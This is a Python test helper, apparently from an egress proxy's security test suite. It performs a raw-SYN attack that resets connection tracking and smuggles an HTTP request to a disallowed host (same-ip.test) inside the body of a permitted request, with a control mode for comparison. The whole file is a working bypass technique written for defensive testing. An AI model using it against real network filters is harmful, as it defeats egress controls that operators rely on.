"""Hostname pinning's raw-SYN attack on a followed HTTP connection (test_pinning_attacks.py; found
in an attack review, 2026-12-06), as a sandbox process with Docker's NET_RAW runs it. The
socket sends a request head naming allowed.test that announces a body and waits (a line on
stdin: the test has seen egressd admit it); then, in mode `syn`, a raw SYN with a bad checksum
on the same four-tuple (the server drops it; output's first rule zeroes the flow's ct mark);
then the body, written as a request head of its own naming allowed.test whose body in turn is a
request naming same-ip.test. Taken for a new connection, the SYN made the reader forget the
followed connection and judge the body as a first request. Mode `none` is the control.
Usage: midbody_attacker.py ADDR PORT MODE. Prints READY, SENT, then one JSON line: "answer"
holds every response the server sent (host=... per request)."""
import json, socket, sys, time
from rawtcp import tcp
addr, port, mode = sys.argv[1], int(sys.argv[2]), sys.argv[3]
V6 = ":" in addr
print("READY", flush=True)
res = {}
s = socket.socket(socket.AF_INET6 if V6 else socket.AF_INET, socket.SOCK_STREAM)
s.settimeout(3.0)
s.connect((addr, port))
lport = s.getsockname()[1]; src = s.getsockname()[0]
r2 = b"GET / HTTP/1.1\r\nHost: same-ip.test\r\nConnection: keep-alive\r\n\r\n"
pad = b"a" * 10
x_head = b"POST / HTTP/1.1\r\nHost: allowed.test\r\nConnection: keep-alive\r\nContent-Length: %d\r\n\r\n" % (len(pad) + len(r2))
x = x_head + pad           # the first request's body, as the server reads it
head1 = b"POST / HTTP/1.1\r\nHost: allowed.test\r\nConnection: keep-alive\r\nContent-Length: %d\r\n\r\n" % len(x)
data = b""
try:
    s.sendall(head1)
    print("SENT", flush=True)
    sys.stdin.readline()
    if mode == "syn":
        # Conntrack takes it in this sendto (its hook runs before any queue), and the reader reads
        # it before the socket's next segment (the same queue, in order): no waiting.
        raw = socket.socket(socket.AF_INET6 if V6 else socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_TCP)
        raw.sendto(tcp(src, addr, lport, port, 12345678, 0, 0x02, good=False), (addr, 0))
    s.sendall(x + r2)
    t0 = time.time()
    while time.time() - t0 < 3 and data.count(b"host=") < 2:
        c = s.recv(4096)
        if not c: break
        data += c
except Exception as e:
    res["error"] = repr(e)
res["answer"] = data.decode(errors="replace")
print(json.dumps(res), flush=True)
